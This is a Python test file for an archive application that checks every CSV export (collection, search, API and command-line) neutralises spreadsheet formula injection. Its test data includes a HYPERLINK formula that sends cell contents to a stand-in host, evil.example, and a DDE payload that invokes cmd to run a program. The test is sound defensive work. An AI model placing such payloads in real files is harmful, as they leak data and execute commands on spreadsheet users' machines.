"""CSV formula injection (issue 18): every CSV the program writes neutralises cells a
spreadsheet would run (OWASP "CSV Injection"), through archive/csvcells.py."""
# ruff: noqa: F811  (pytest fixtures imported from tests.web_fixtures are redefined as arguments)
from __future__ import annotations

import csv
import io
from typing import Any

from archive import collections as data
from archive import csvcells
from bantin.main import main
from tests.web_fixtures import build_search_index, login, make_app, web_home_factory  # noqa: F401

EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_cells_that_start_a_formula_are_neutralised() -> None:
    for bad in ("=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "+cmd"):
        assert csvcells.neutralise(bad) == "'" + bad
    for fine in ("Nghị quyết 21-NQ/TW", "", "1,5", "-3", "+1.5", "-0.25", "1e5", 12, -4.5, None):
        assert csvcells.neutralise(fine) == fine
    buffer = io.StringIO()
    csvcells.writer(buffer).writerow(["=1+1", "ok", -1])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=1+1", "ok", "-1"]]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_every_export_neutralises_titles_notes_and_text(web_home_factory: Any, capsys: Any) -> None:
    home = web_home_factory(index=False)
    article = home.articles["hoc-tap"]
    with home.catalog() as catalog:
        with catalog.transaction() as db:
            db.execute("UPDATE article SET title = ? WHERE id = ?", (EVIL_TITLE, article))
            db.execute("UPDATE page_text SET text = '-1+1 ' || text WHERE page_id = 'ttshcb-2012-07/1'")
        col = data.create_collection(catalog, "Minh chứng", owner="bientap")
        data.add_item(catalog, col.id, "article", article, title=EVIL_TITLE, note=EVIL_NOTE,
                      added_by="bientap")
    assert build_search_index(home)
    app = make_app(home)
    client = app.test_client()
    login(client, "doc")
    # the collection's CSV
    rows = _rows(client.get(f"/c/{col.slug}/export.csv").get_data(as_text=True))
    cells = [v for row in rows for v in row.values()]
    assert "'" + EVIL_TITLE in cells and "'" + EVIL_NOTE in cells
    assert not any(v.startswith(("=", "@")) for v in cells)
    # the search page's and the API's CSV
    for url in ("/search/export.csv?q=tam+guong", "/api/search/export.csv?q=tam+guong",
                "/search/records.csv?q=tam+guong", "/api/search/records.csv?q=tam+guong"):
        rows = _rows(client.get(url).get_data(as_text=True))
        titles = [r["title"] for r in rows]
        assert "'" + EVIL_TITLE in titles, url
        assert not any(v.startswith(("=", "@", "+")) for r in rows for v in r.values()), url
    # `bantin export pages --format csv`
    assert main(["--home", str(home.path), "--quiet", "export", "pages", "--format", "csv"]) in (0, None)
    rows = _rows(capsys.readouterr().out)
    page = next(r for r in rows if r["id"] == "ttshcb-2012-07/1")
    assert page["text"].startswith("'-1+1 ")
